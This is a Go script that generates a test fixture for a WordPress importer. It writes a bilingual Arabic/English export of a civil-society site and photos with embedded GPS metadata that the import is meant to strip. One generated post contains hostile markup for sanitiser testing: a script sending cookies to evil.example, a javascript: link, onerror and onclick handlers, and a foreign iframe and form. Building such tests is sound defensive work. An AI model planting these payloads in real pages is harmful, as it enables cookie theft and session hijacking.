//go:build ignore

// generate writes the import fixture: wordpress.xml, a WordPress export
// (WXR 1.2) of a bilingual Arabic/English site, and the JPEG images it
// names under media/, each with EXIF and a comment carrying a GPS position
// that the import must strip.
//
//	cd cmd/tadamun/testdata/import && go run generate.go
//
// The file follows the format WordPress's exporter writes
// (wp-admin/includes/export.php): an RSS 2.0 channel with the site's
// wp:author, wp:category, wp:tag and wp:term definitions, then one item
// per post, page, attachment and menu item with wp:post_id,
// wp:post_date_gmt, wp:status, wp:post_type, wp:postmeta, wp:comment and
// the body in content:encoded, the excerpt in excerpt:encoded. Translations
// are marked both ways multilingual plugins export them: Polylang's
// language and post_translations taxonomies (with the group's
// PHP-serialized map in the term description), and WPML's
// _wpml_import_* postmeta.
package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"image"
	"image/color"
	"image/jpeg"
	"net/url"
	"os"
	"strings"
	"time"
)

const site = "https://old.icssi.example"

// Counts of what the file holds.
const (
	polylangPairs = 150 // an English post and its Arabic translation (Polylang)
	wpmlPairs     = 30  // an Arabic original and its English translation (WPML)
	arabicOnly    = 40
	englishOnly   = 20
	drafts        = 6
	images        = 3
)

var arTitles = []string{"نقف معاً مع نشطاء المجتمع المدني العراقي", "بيان حول حرية التعبير في العراق", "نداء من أجل حماية المدافعين عن حقوق الإنسان",
	"تضامناً مع الصحفيين المعتقلين", "المنتدى الاجتماعي العراقي يدعو إلى السلام", "حملة من أجل المياه في بلاد الرافدين"}
var enTitles = []string{"We Stand Together With Iraqi Civil Society Activists", "Statement on Freedom of Expression in Iraq",
	"An Appeal to Protect Human Rights Defenders", "In Solidarity With Detained Journalists", "The Iraqi Social Forum Calls for Peace",
	"A Campaign for the Waters of Mesopotamia"}
var arBody = []string{"تدين المبادرة الاعتداءات المتكررة على الناشطين السلميين وتطالب بالإفراج الفوري عنهم.",
	"نؤكد أن حرية التعبير والتجمع السلمي حقوق يكفلها الدستور العراقي والمواثيق الدولية.",
	"ندعو جميع المنظمات الصديقة إلى التضامن ونشر هذا البيان على أوسع نطاق."}
var enBody = []string{"The Initiative condemns the repeated attacks on peaceful activists and demands their immediate release.",
	"Freedom of expression and of peaceful assembly are rights guaranteed by the Iraqi constitution and international law.",
	"We call on all partner organisations to stand in solidarity and to share this statement widely."}

type item struct {
	id, parent              int
	title, slug, link, guid string
	date                    time.Time
	status, typ             string
	body, excerpt           string
	cats                    [][3]string // domain, nicename, name
	meta                    [][2]string
	comments                []comment
	attachmentURL           string
}

type comment struct {
	author, email, ip, text, approved string
}

func main() {
	var items []item
	var terms []string
	id := 100
	next := func() int { id++; return id }
	day := time.Date(2014, 1, 6, 9, 30, 0, 0, time.UTC)
	when := func(i int) time.Time { return day.Add(time.Duration(i) * 31 * time.Hour) }

	// Attachments: the pictures, served from /wp-content/uploads/.
	var att []int
	for i := 1; i <= images; i++ {
		a := next()
		att = append(att, a)
		name := fmt.Sprintf("photo-%d.jpg", i)
		items = append(items, item{id: a, title: fmt.Sprintf("photo-%d", i), slug: fmt.Sprintf("photo-%d", i),
			link: site + "/?attachment_id=" + fmt.Sprint(a), guid: site + "/wp-content/uploads/2014/01/" + name,
			date: when(0), status: "inherit", typ: "attachment", attachmentURL: site + "/wp-content/uploads/2014/01/" + name,
			meta: [][2]string{{"_wp_attached_file", "2014/01/" + name}, {"_wp_attachment_image_alt", fmt.Sprintf("صورة %d — picture %d", i, i)}}})
		writeJPEG(fmt.Sprintf("media/wp-content/uploads/2014/01/%s", name), i)
	}
	img := func(n int) string {
		return fmt.Sprintf(`<figure class="wp-block-image"><img src="%s/wp-content/uploads/2014/01/photo-%d.jpg" alt="picture %d" width="32" height="24" /><figcaption>Caption %d</figcaption></figure>`, site, n, n, n)
	}

	post := func(n int, lang string, t time.Time) item {
		i := item{id: next(), date: t, status: "publish", typ: "post"}
		titles, body := enTitles, enBody
		if lang == "ar" {
			titles, body = arTitles, arBody
		}
		i.title = fmt.Sprintf("%s (%d)", titles[n%len(titles)], n)
		if lang == "ar" {
			i.title = fmt.Sprintf("%s (%d)", titles[n%len(titles)], n)
		}
		slug := strings.ToLower(strings.NewReplacer(" ", "-", "(", "", ")", "").Replace(i.title))
		i.slug = url.PathEscape(slug) // WordPress keeps non-Latin slugs percent-encoded
		i.slug = strings.ToLower(i.slug)
		prefix := ""
		if lang == "ar" {
			prefix = "/ar"
		}
		i.link = fmt.Sprintf("%s%s/%04d/%02d/%s/", site, prefix, t.Year(), int(t.Month()), i.slug)
		i.guid = fmt.Sprintf("%s/?p=%d", site, i.id)
		var b strings.Builder
		for k, para := range body {
			if k == 1 && lang == "ar" {
				b.WriteString("<!-- wp:paragraph -->\n<p>" + para + " #حقوق_الإنسان</p>\n<!-- /wp:paragraph -->\n\n")
				continue
			}
			b.WriteString("<!-- wp:paragraph -->\n<p>" + para + "</p>\n<!-- /wp:paragraph -->\n\n")
		}
		i.body = b.String()
		i.excerpt = body[0]
		if lang == "ar" {
			i.cats = append(i.cats, [3]string{"category", "bayanat", "بيانات"}, [3]string{"post_tag", "huquq", "حقوق الإنسان"})
		} else {
			i.cats = append(i.cats, [3]string{"category", "statements", "Statements"}, [3]string{"post_tag", "civil-society", "Civil society"})
		}
		i.cats = append(i.cats, [3]string{"category", "uncategorized", "Uncategorized"})
		return i
	}

	n := 0
	// Polylang pairs: the English original and its Arabic translation.
	for k := 0; k < polylangPairs; k++ {
		t := when(n)
		en, ar := post(n, "en", t), post(n, "ar", t.Add(2*time.Hour))
		n++
		group := fmt.Sprintf("pll_%08x", 0x5f2b0000+k)
		en.cats = append(en.cats, [3]string{"language", "en", "English"}, [3]string{"post_translations", group, group})
		ar.cats = append(ar.cats, [3]string{"language", "ar", "العربية"}, [3]string{"post_translations", group, group})
		terms = append(terms, fmt.Sprintf(`	<wp:term>
		<wp:term_id>%d</wp:term_id>
		<wp:term_taxonomy><![CDATA[post_translations]]></wp:term_taxonomy>
		<wp:term_slug><![CDATA[%s]]></wp:term_slug>
		<wp:term_name><![CDATA[%s]]></wp:term_name>
		<wp:term_description><![CDATA[a:2:{s:2:"en";i:%d;s:2:"ar";i:%d;}]]></wp:term_description>
	</wp:term>`, 5000+k, group, group, en.id, ar.id))
		switch {
		case k < images: // an inline picture and a featured image
			en.body = img(k+1) + "\n\n" + en.body
			ar.body = img(k+1) + "\n\n" + ar.body
			en.meta = append(en.meta, [2]string{"_thumbnail_id", fmt.Sprint(att[(k+1)%images])})
		case k == images: // more pictures than a statement carries
			for j := 0; j < 6; j++ {
				en.body += fmt.Sprintf(`<p><img src="%s/wp-content/uploads/2014/01/photo-%d.jpg?v=%d" alt="many %d" /></p>`, site, j%images+1, j, j)
			}
		case k == images+1: // hostile markup from an old plugin
			en.body = `<p>Read <a href="javascript:alert(1)">this</a> and <a href="https://partner.example/report">the report</a>.</p>` +
				`<script>document.location='https://evil.example/?c='+document.cookie</script>` +
				`<iframe src="https://evil.example/frame"></iframe><p onclick="steal()" style="position:fixed">Styled</p>` +
				`<img src="x" onerror="alert(2)"><form action="https://evil.example/"><input name="q"></form>` + en.body
		case k%10 == 5:
			en.comments = []comment{{"Sara", "sara@example.org", "203.0.113.7", "Thank you for this statement.", "1"},
				{"spam", "spam@example.net", "198.51.100.9", "Buy cheap watches", "spam"}}
			ar.comments = []comment{{"علي", "ali@example.org", "203.0.113.8", "شكراً لكم", "1"}}
		}
		items = append(items, en, ar)
	}
	// WPML pairs: the Arabic original, its English translation.
	for k := 0; k < wpmlPairs; k++ {
		t := when(n)
		ar, en := post(n, "ar", t), post(n, "en", t.Add(time.Hour))
		n++
		group := fmt.Sprintf("wpml-group-%d", k)
		ar.meta = append(ar.meta, [2]string{"_wpml_import_language_code", "ar"}, [2]string{"_wpml_import_translation_group", group})
		en.meta = append(en.meta, [2]string{"_wpml_import_language_code", "en"}, [2]string{"_wpml_import_source_language_code", "ar"},
			[2]string{"_wpml_import_translation_group", group})
		items = append(items, en, ar) // the translation first: the original is found by its marker, not its place
	}
	for k := 0; k < arabicOnly; k++ {
		p := post(n, "ar", when(n))
		n++
		p.cats = append(p.cats, [3]string{"language", "ar", "العربية"})
		items = append(items, p)
	}
	for k := 0; k < englishOnly; k++ {
		p := post(n, "en", when(n))
		n++
		p.cats = append(p.cats, [3]string{"language", "en", "English"})
		if k == 0 { // a classic-editor post: paragraphs are blank lines, a caption shortcode
			p.body = "First paragraph of a classic post.\nSecond line of it.\n\n" +
				`[caption id="attachment_101" align="alignnone" width="32"]<img src="` + site + `/wp-content/uploads/2014/01/photo-1.jpg" alt="classic" /> A classic caption[/caption]` +
				"\n\nLast paragraph. [gallery ids=\"101,102\"]"
		}
		items = append(items, p)
	}
	// Drafts (one pending review, one scheduled), a private and a trashed post.
	for k := 0; k < drafts; k++ {
		p := post(n, []string{"en", "ar"}[k%2], when(n))
		n++
		p.status = []string{"draft", "draft", "pending", "draft", "future", "draft"}[k]
		p.cats = append(p.cats, [3]string{"language", []string{"en", "ar"}[k%2], ""})
		items = append(items, p)
	}
	for _, st := range []string{"private", "trash"} {
		p := post(n, "en", when(n))
		n++
		p.status = st
		items = append(items, p)
	}
	// Pages: two published, one draft.
	for k, title := range []string{"About us", "من نحن", "Contact (draft)"} {
		p := item{id: next(), title: title, slug: url.PathEscape(strings.ToLower(strings.Fields(title)[0])), date: when(k), status: "publish", typ: "page",
			body: "<p>" + title + ": the Iraqi Civil Society Solidarity Initiative.</p>"}
		if k == 2 {
			p.status = "draft"
		}
		p.link = site + "/" + p.slug + "/"
		p.guid = fmt.Sprintf("%s/?page_id=%d", site, p.id)
		items = append(items, p)
	}
	// Menu items: exported, never imported.
	for k := 0; k < 2; k++ {
		items = append(items, item{id: next(), title: fmt.Sprintf("Menu %d", k), slug: fmt.Sprintf("menu-%d", k), date: when(0),
			status: "publish", typ: "nav_menu_item", link: fmt.Sprintf("%s/?p=%d", site, id), guid: fmt.Sprintf("%s/?p=%d", site, id)})
	}

	var out bytes.Buffer
	out.WriteString(head)
	for _, t := range terms {
		out.WriteString(t + "\n")
	}
	for _, it := range items {
		writeItem(&out, it)
	}
	out.WriteString("</channel>\n</rss>\n")
	if err := os.WriteFile("wordpress.xml", out.Bytes(), 0o644); err != nil {
		panic(err)
	}
	fmt.Printf("wordpress.xml: %d items, %d bytes\n", len(items), out.Len())
}

const head = `<?xml version="1.0" encoding="UTF-8" ?>
<!-- This is a WordPress eXtended RSS file generated by WordPress as an export of your site. -->
<!-- generator="WordPress/6.4.2" created="2024-01-15 10:00" -->
<rss version="2.0"
	xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/"
	xmlns:content="http://purl.org/rss/1.0/modules/content/"
	xmlns:wfw="http://wellformedweb.org/CommentAPI/"
	xmlns:dc="http://purl.org/dc/elements/1.1/"
	xmlns:wp="http://wordpress.org/export/1.2/"
>
<channel>
	<title>ICSSI — المبادرة التضامنية مع المجتمع المدني العراقي</title>
	<link>https://old.icssi.example</link>
	<description>Iraqi Civil Society Solidarity Initiative</description>
	<pubDate>Mon, 15 Jan 2024 10:00:00 +0000</pubDate>
	<language>en-US</language>
	<wp:wxr_version>1.2</wp:wxr_version>
	<wp:base_site_url>https://old.icssi.example</wp:base_site_url>
	<wp:base_blog_url>https://old.icssi.example</wp:base_blog_url>
	<wp:author><wp:author_id>1</wp:author_id><wp:author_login><![CDATA[icssi]]></wp:author_login><wp:author_email><![CDATA[web@icssi.example]]></wp:author_email><wp:author_display_name><![CDATA[ICSSI]]></wp:author_display_name><wp:author_first_name><![CDATA[]]></wp:author_first_name><wp:author_last_name><![CDATA[]]></wp:author_last_name></wp:author>
	<wp:category><wp:term_id>1</wp:term_id><wp:category_nicename><![CDATA[uncategorized]]></wp:category_nicename><wp:category_parent><![CDATA[]]></wp:category_parent><wp:cat_name><![CDATA[Uncategorized]]></wp:cat_name></wp:category>
	<wp:category><wp:term_id>2</wp:term_id><wp:category_nicename><![CDATA[statements]]></wp:category_nicename><wp:category_parent><![CDATA[]]></wp:category_parent><wp:cat_name><![CDATA[Statements]]></wp:cat_name></wp:category>
	<wp:category><wp:term_id>3</wp:term_id><wp:category_nicename><![CDATA[bayanat]]></wp:category_nicename><wp:category_parent><![CDATA[]]></wp:category_parent><wp:cat_name><![CDATA[بيانات]]></wp:cat_name></wp:category>
	<wp:tag><wp:term_id>4</wp:term_id><wp:tag_slug><![CDATA[civil-society]]></wp:tag_slug><wp:tag_name><![CDATA[Civil society]]></wp:tag_name></wp:tag>
	<wp:tag><wp:term_id>5</wp:term_id><wp:tag_slug><![CDATA[huquq]]></wp:tag_slug><wp:tag_name><![CDATA[حقوق الإنسان]]></wp:tag_name></wp:tag>
	<wp:term><wp:term_id>6</wp:term_id><wp:term_taxonomy><![CDATA[language]]></wp:term_taxonomy><wp:term_slug><![CDATA[en]]></wp:term_slug><wp:term_name><![CDATA[English]]></wp:term_name><wp:term_description><![CDATA[a:3:{s:6:"locale";s:5:"en_US";s:3:"rtl";i:0;s:9:"flag_code";s:2:"us";}]]></wp:term_description></wp:term>
	<wp:term><wp:term_id>7</wp:term_id><wp:term_taxonomy><![CDATA[language]]></wp:term_taxonomy><wp:term_slug><![CDATA[ar]]></wp:term_slug><wp:term_name><![CDATA[العربية]]></wp:term_name><wp:term_description><![CDATA[a:3:{s:6:"locale";s:2:"ar";s:3:"rtl";i:1;s:9:"flag_code";s:3:"arab";}]]></wp:term_description></wp:term>
	<generator>https://wordpress.org/?v=6.4.2</generator>
`

func cdata(s string) string {
	return "<![CDATA[" + strings.ReplaceAll(s, "]]>", "]]]]><![CDATA[>") + "]]>"
}

func writeItem(b *bytes.Buffer, it item) {
	gmt := it.date.UTC().Format("2006-01-02 15:04:05")
	local := it.date.Add(3 * time.Hour).Format("2006-01-02 15:04:05") // the site's zone: Baghdad, UTC+3
	if it.status == "draft" || it.status == "pending" {
		gmt = "0000-00-00 00:00:00" // WordPress gives drafts no GMT date
	}
	fmt.Fprintf(b, "\t<item>\n\t\t<title><![CDATA[%s]]></title>\n\t\t<link>%s</link>\n\t\t<pubDate>%s</pubDate>\n", it.title, it.link, it.date.Format(time.RFC1123Z))
	fmt.Fprintf(b, "\t\t<dc:creator><![CDATA[icssi]]></dc:creator>\n\t\t<guid isPermaLink=\"false\">%s</guid>\n\t\t<description></description>\n", it.guid)
	fmt.Fprintf(b, "\t\t<content:encoded>%s</content:encoded>\n\t\t<excerpt:encoded>%s</excerpt:encoded>\n", cdata(it.body), cdata(it.excerpt))
	fmt.Fprintf(b, "\t\t<wp:post_id>%d</wp:post_id>\n\t\t<wp:post_date><![CDATA[%s]]></wp:post_date>\n\t\t<wp:post_date_gmt><![CDATA[%s]]></wp:post_date_gmt>\n", it.id, local, gmt)
	fmt.Fprintf(b, "\t\t<wp:post_modified><![CDATA[%s]]></wp:post_modified>\n\t\t<wp:post_modified_gmt><![CDATA[%s]]></wp:post_modified_gmt>\n", local, gmt)
	fmt.Fprintf(b, "\t\t<wp:comment_status><![CDATA[open]]></wp:comment_status>\n\t\t<wp:ping_status><![CDATA[closed]]></wp:ping_status>\n")
	fmt.Fprintf(b, "\t\t<wp:post_name><![CDATA[%s]]></wp:post_name>\n\t\t<wp:status><![CDATA[%s]]></wp:status>\n\t\t<wp:post_parent>%d</wp:post_parent>\n", it.slug, it.status, it.parent)
	fmt.Fprintf(b, "\t\t<wp:menu_order>0</wp:menu_order>\n\t\t<wp:post_type><![CDATA[%s]]></wp:post_type>\n\t\t<wp:post_password><![CDATA[]]></wp:post_password>\n\t\t<wp:is_sticky>0</wp:is_sticky>\n", it.typ)
	if it.attachmentURL != "" {
		fmt.Fprintf(b, "\t\t<wp:attachment_url><![CDATA[%s]]></wp:attachment_url>\n", it.attachmentURL)
	}
	for _, c := range it.cats {
		fmt.Fprintf(b, "\t\t<category domain=\"%s\" nicename=\"%s\"><![CDATA[%s]]></category>\n", c[0], c[1], c[2])
	}
	for _, m := range it.meta {
		fmt.Fprintf(b, "\t\t<wp:postmeta>\n\t\t\t<wp:meta_key><![CDATA[%s]]></wp:meta_key>\n\t\t\t<wp:meta_value>%s</wp:meta_value>\n\t\t</wp:postmeta>\n", m[0], cdata(m[1]))
	}
	for k, c := range it.comments {
		fmt.Fprintf(b, "\t\t<wp:comment>\n\t\t\t<wp:comment_id>%d</wp:comment_id>\n\t\t\t<wp:comment_author><![CDATA[%s]]></wp:comment_author>\n", it.id*10+k, c.author)
		fmt.Fprintf(b, "\t\t\t<wp:comment_author_email><![CDATA[%s]]></wp:comment_author_email>\n\t\t\t<wp:comment_author_url></wp:comment_author_url>\n", c.email)
		fmt.Fprintf(b, "\t\t\t<wp:comment_author_IP><![CDATA[%s]]></wp:comment_author_IP>\n\t\t\t<wp:comment_date><![CDATA[%s]]></wp:comment_date>\n", c.ip, it.date.Add(24*time.Hour).Format("2006-01-02 15:04:05"))
		fmt.Fprintf(b, "\t\t\t<wp:comment_date_gmt><![CDATA[%s]]></wp:comment_date_gmt>\n\t\t\t<wp:comment_content>%s</wp:comment_content>\n", it.date.Add(21*time.Hour).Format("2006-01-02 15:04:05"), cdata(c.text))
		fmt.Fprintf(b, "\t\t\t<wp:comment_approved><![CDATA[%s]]></wp:comment_approved>\n\t\t\t<wp:comment_type><![CDATA[comment]]></wp:comment_type>\n\t\t\t<wp:comment_parent>0</wp:comment_parent>\n\t\t\t<wp:comment_user_id>0</wp:comment_user_id>\n\t\t</wp:comment>\n", c.approved)
	}
	b.WriteString("\t</item>\n")
}

// writeJPEG writes a 32×24 picture with an EXIF segment (camera make and
// a GPS position) and a comment: what a phone's photo carries.
func writeJPEG(path string, n int) {
	m := image.NewRGBA(image.Rect(0, 0, 32, 24))
	for x := 0; x < 32; x++ {
		for y := 0; y < 24; y++ {
			m.Set(x, y, color.RGBA{uint8(60 * n), uint8(8 * x), uint8(10 * y), 255})
		}
	}
	var enc bytes.Buffer
	if err := jpeg.Encode(&enc, m, &jpeg.Options{Quality: 80}); err != nil {
		panic(err)
	}
	src := enc.Bytes()
	// APP1 Exif: a big-endian TIFF header and one IFD with Make (ASCII).
	var tiff bytes.Buffer
	tiff.WriteString("MM\x00\x2a")
	binary.Write(&tiff, binary.BigEndian, uint32(8))
	camera := "SecretPhone GPS 33.3152N 44.3661E\x00"
	binary.Write(&tiff, binary.BigEndian, uint16(1))
	binary.Write(&tiff, binary.BigEndian, []uint16{0x010f, 2})
	binary.Write(&tiff, binary.BigEndian, uint32(len(camera)))
	binary.Write(&tiff, binary.BigEndian, uint32(8+2+12+4))
	binary.Write(&tiff, binary.BigEndian, uint32(0))
	tiff.WriteString(camera)
	app1 := append([]byte("Exif\x00\x00"), tiff.Bytes()...)
	com := []byte("GPS 33.3152N 44.3661E taken by a volunteer")
	var out bytes.Buffer
	out.Write(src[:2]) // SOI
	segment(&out, 0xE1, app1)
	segment(&out, 0xFE, com)
	out.Write(src[2:])
	if err := os.MkdirAll(path[:strings.LastIndexByte(path, '/')], 0o755); err != nil {
		panic(err)
	}
	if err := os.WriteFile(path, out.Bytes(), 0o644); err != nil {
		panic(err)
	}
}

func segment(b *bytes.Buffer, marker byte, data []byte) {
	b.Write([]byte{0xFF, marker})
	binary.Write(b, binary.BigEndian, uint16(len(data)+2))
	b.Write(data)
}
